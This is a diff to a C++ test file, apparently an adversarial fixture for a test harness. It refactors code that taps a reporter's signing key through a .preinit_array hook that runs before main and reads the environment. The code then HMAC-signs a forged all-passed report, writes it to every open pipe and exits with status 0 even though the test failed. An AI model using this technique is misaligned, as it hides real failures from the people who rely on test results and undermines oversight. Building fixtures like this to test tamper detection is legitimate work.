@@ -4,14 +4,14 @@
 /// without taking it (tee), so that the reporter would not notice; the failing test then signs
 /// the rest of an all-passed report with it, writes it to every pipe and ends with _exit(0).
 #include <fcntl.h>
-#include <openssl/evp.h>
-#include <openssl/hmac.h>
 #include <sys/stat.h>
 #include <unistd.h>
 
 #include <cstdlib>
 #include <cstring>
 #include <string>
+
+#include "forgery.h"
 
 namespace {
 
@@ -41,19 +41,6 @@ void steal(int /*argc*/, char** /*argv*/, char** envp) {
 [[maybe_unused]] __attribute__((section(".preinit_array"),
                                 used)) void (*const kSteal)(int, char**, char**) = steal;
 
-std::string sign(const std::string& body) {
-    unsigned char mac[EVP_MAX_MD_SIZE];
-    unsigned int size = 0;
-    HMAC(EVP_sha256(), g_key, static_cast<int>(g_key_size),
-         reinterpret_cast<const unsigned char*>(body.data()), body.size(), mac, &size);
-    std::string hex;
-    for (unsigned int i = 0; i < size; ++i) {
-        hex += "0123456789abcdef"[mac[i] >> 4];
-        hex += "0123456789abcdef"[mac[i] & 15];
-    }
-    return body.substr(0, body.size() - 1) + ",\"mac\":\"" + hex + "\"}\n";
-}
-
 }  // namespace
 
 int fx_add(int a, int b) {
@@ -65,17 +52,6 @@ int fx_add(int a, int b) {
                               "{\"event\":\"case_end\",\"name\":\"adds equal numbers\","
                               "\"status\":\"passed\",\"skip_reason\":null,\"duration_s\":0.0}\n"
                               "{\"event\":\"run_end\",\"passed\":2,\"failed\":0,\"skipped\":0}\n")
-                        : sign(
-                              "{\"event\":\"case_end\",\"name\":\"adds equal numbers\",\"status\":"
-                              "\"passed\",\"skip_reason\":null,\"duration_s\":0.0,\"seq\":4}") +
-                              sign(
-                                  "{\"event\":\"run_end\",\"passed\":2,\"failed\":0,\"skipped\":0,"
-                                  "\"seq\":5}");
-    for (int fd = 3; fd < 64; ++fd) {
-        struct stat info {};
-        if (fstat(fd, &info) == 0 && S_ISFIFO(info.st_mode)) {
-            [[maybe_unused]] const ssize_t n = write(fd, forged.data(), forged.size());
-        }
-    }
-    _exit(0);
+                        : hx::signed_passed_end(g_key, g_key_size);
+    hx::send_to_every_pipe_and_exit(forged);
 }
